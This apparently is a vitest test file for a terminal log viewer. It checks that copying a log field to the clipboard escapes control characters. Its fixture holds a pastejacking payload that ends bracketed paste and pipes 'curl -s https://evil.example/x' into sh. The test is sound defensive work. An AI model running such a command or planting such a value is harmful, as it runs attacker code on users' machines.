/**
 * `y` in the details copies the selected value to the clipboard (OSC 52), and
 * the next thing a user does with it is paste it into a shell. A value from the
 * log holding ESC [ 201 ~ ends the shell's bracketed paste, and the newline
 * after it runs the rest as a command; so a value with control characters is
 * copied as the panel shows it (visible escapes), and an ordinary one exactly.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { EventStore } from '../../src/store/eventStore.js';
import { App } from '../../src/ui/App.js';
import { linkCopy } from '../../src/ui/detailModel.js';
import { makeRow } from '../ui/fixtures.js';
import { KEYS, renderApp, type Harness } from '../ui/harness.js';

const PASTEJACK = 'aws-cli/2.15\u001b[201~\ncurl -s https://evil.example/x | sh\n\u202e';

let open: Harness[] = [];
afterEach(() => {
  for (const h of open) h.cleanup();
  open = [];
});

function clipboardText(h: Harness): string {
  const payload = /\]52;c;([A-Za-z0-9+/=]*)/.exec(h.stdout.clipboard.at(-1) ?? '')?.[1];
  expect(payload).toBeDefined();
  return Buffer.from(payload!, 'base64').toString('utf8');
}

async function copyUserAgent(userAgent: string): Promise<{ h: Harness; status: string }> {
  const store = new EventStore(0);
  store.add([makeRow({ name: 'GetObject', userAgent })]);
  store.flush();
  const h = renderApp(<App store={store} folder="/logs" watching={false} env={{ NO_COLOR: '1' }} />, 120, 40);
  open.push(h);
  await h.waitFor((f) => f.includes('GetObject'));
  await h.press(KEYS.enter, (f) => f.includes('Event details'));
  const selected = (f: string) => f.split('\n').find((l) => l.startsWith(' ›')) ?? '';
  for (let i = 0; i < 40 && !selected(h.frame()).includes('User agent'); i++) await h.press(KEYS.tab);
  expect(selected(h.frame())).toContain('User agent');
  const frame = await h.press('y', (f) => f.includes('Copied'));
  return { h, status: frame.split('\n').find((l) => l.includes('Copied')) ?? '' };
}

describe('copying a value from the details', () => {
  it('copies a value holding control characters as shown, so a paste cannot end bracketed paste or run a line', async () => {
    const { h, status } = await copyUserAgent(PASTEJACK);
    const copied = clipboardText(h);
    expect(copied).toBe('aws-cli/2.15\\x1b[201~\\ncurl -s https://evil.example/x | sh\\n\\u202e');
    expect(copied).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(status).toContain('control characters escaped');
  });

  it('copies an ordinary value exactly', async () => {
    const { h, status } = await copyUserAgent('aws-cli/2.15.10 Python/3.11 Linux/6.1 exe/x86_64 prompt/off command/s3.ls');
    expect(clipboardText(h)).toBe('aws-cli/2.15.10 Python/3.11 Linux/6.1 exe/x86_64 prompt/off command/s3.ls');
    expect(status).not.toContain('escaped');
  });

  it('is the same rule for both dashboards (the --db details copy through linkCopy too)', () => {
    const copied = linkCopy({ kind: 'value', label: 'User agent', url: null, resource: null, value: PASTEJACK });
    expect('text' in copied && copied.text).toBe('aws-cli/2.15\\x1b[201~\\ncurl -s https://evil.example/x | sh\\n\\u202e');
  });
});
